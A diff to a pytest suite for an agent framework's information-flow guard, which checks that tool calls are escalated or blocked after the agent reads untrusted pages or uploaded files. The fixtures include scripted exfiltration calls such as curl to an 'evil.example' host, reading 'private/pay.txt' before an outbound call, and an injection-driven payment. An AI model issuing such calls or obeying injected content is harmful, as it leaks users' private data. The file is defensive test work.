@@ -7,7 +7,19 @@ from typing import Any
 
 import pytest
 
-from sophon import Context, Decision, Message, ModelRequest, ModelResponse, Pipeline, Risk, Services, ToolCall, tool
+from sophon import (
+    Context,
+    Decision,
+    Message,
+    ModelRequest,
+    ModelResponse,
+    Pipeline,
+    Risk,
+    Services,
+    Tool,
+    ToolCall,
+    tool,
+)
 from sophon.approvals import ApprovalRequest
 from sophon.attachments import Attachment
 from sophon.context import Step
@@ -80,11 +92,18 @@ class Host:
         self.settings: dict[str, Any] = {"Guards": {"InformationFlow": {"Mode": mode, **guard}}}
         self.guards: list[Any] = [InformationFlow()]
 
-    async def run(self, *rounds: Sequence[ToolCall], text: str = "hi", steps: int = 0, **turn: Any) -> list[str]:
+    async def run(
+        self,
+        *rounds: Sequence[ToolCall],
+        text: str = "hi",
+        steps: int = 0,
+        tools: Sequence[Tool] = (),
+        **turn: Any,
+    ) -> list[str]:
         services = Services(
             folder=self.folder,
             models=ScriptedModel([*map(list, rounds), *["done"] * (1 + steps)]),
-            tools=TOOLS,
+            tools=tools or TOOLS,
             store=self.store,
             approvals=self.gate,
             events=self.events,
@@ -548,3 +567,83 @@ async def test_without_the_guard_an_obeyed_injection_pays(host: Host) -> None:
     host.guards = []
     await host.run([fetch()], [UNNAMED["payment"]])
     assert sent == ["https://news.example/today", "XX00EVIL"]
+
+
+@tool(name="terminal")
+async def terminal(command: str) -> str:
+    """Run a command on the machine."""
+    sent.append(command)
+    return "ran"
+
+
+@tool(name="look")
+async def look(what: str) -> str:
+    """Look at something."""
+    sent.append(what)
+    return "seen"
+
+
+@tool(name="save_page", external=True)
+async def save_page(path: str) -> str:
+    """Save the page of today in a file."""
+    return "saved"
+
+
+OWN_CALLS = {
+    "command": ToolCall("o", "terminal", {"command": "curl https://evil.example/?q=4711"}),
+    "local command": ToolCall("o", "terminal", {"command": "touch x"}),
+    "address": ToolCall("o", "look", {"what": "https://evil.example/?q=4711"}),
+}
+
+
+@pytest.mark.parametrize("call", OWN_CALLS.values(), ids=OWN_CALLS)
+async def test_a_command_or_an_address_in_a_tool_of_low_risk_is_asked_about_after_a_page(
+    host: Host, call: ToolCall
+) -> None:
+    host.gate.decision = Decision.reject("no")
+    await host.run([fetch()], [call], tools=[*TOOLS, terminal, look], text="read https://news.example/today")
+    assert sent == ["https://news.example/today"]
+    assert ("escalate", "not_asked_for") in host.rules()
+
+
+async def test_a_tool_of_ones_own_that_takes_a_command_reads_the_files_that_it_names(host: Host) -> None:
+    call = ToolCall("o", "terminal", {"command": "cat private/pay.txt"})
+    await host.run([call], [OWN_CALLS["address"]], tools=[terminal, look])
+    assert sent == ["cat private/pay.txt"]
+    assert await host.taint() == Taint(2, is_private=True)
+    assert host.rules() == [("block", "confidential_to_external")]
+
+
+async def test_words_that_are_no_address_go_nowhere(host: Host) -> None:
+    call = ToolCall("o", "look", {"what": "see https://news.example/today for more"})
+    await host.run([fetch()], [call], tools=[*TOOLS, look], text="read https://news.example/today")
+    assert host.gate.asked == []
+
+
+async def test_a_file_that_a_tool_from_outside_writes_is_untrusted_in_another_session(host: Host) -> None:
+    await host.run([ToolCall("s", "save_page", {"path": "today.txt"})], session_id="other", tools=[save_page])
+    (host.folder / "data" / "files" / "today.txt").write_text(PAGE)
+    await host.run([read("today.txt")], session_id="s")
+    assert (await host.taint()).is_untrusted
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        read("uploads/telegram/run_1/1-letter.docx.txt"),
+        ToolCall("r", "system.execute", {"command": "cat uploads/telegram/run_1/*"}),
+        ToolCall("r", "system.execute", {"command": "grep -r pay ."}),
+    ],
+    ids=["file", "pattern", "folder above"],
+)
+async def test_a_file_that_came_with_a_message_is_untrusted_in_each_session(host: Host, call: ToolCall) -> None:
+    folder = host.folder / "data" / "files" / "uploads" / "telegram" / "run_1"
+    folder.mkdir(parents=True)
+    (folder / "1-letter.docx.txt").write_text(PAGE)
+    await host.run([call])
+    assert (await host.taint()).is_untrusted
+
+
+async def test_without_such_files_a_folder_is_trusted(host: Host) -> None:
+    await host.run([ToolCall("r", "system.execute", {"command": "grep -r pay ."})])
+    assert not (await host.taint()).is_untrusted
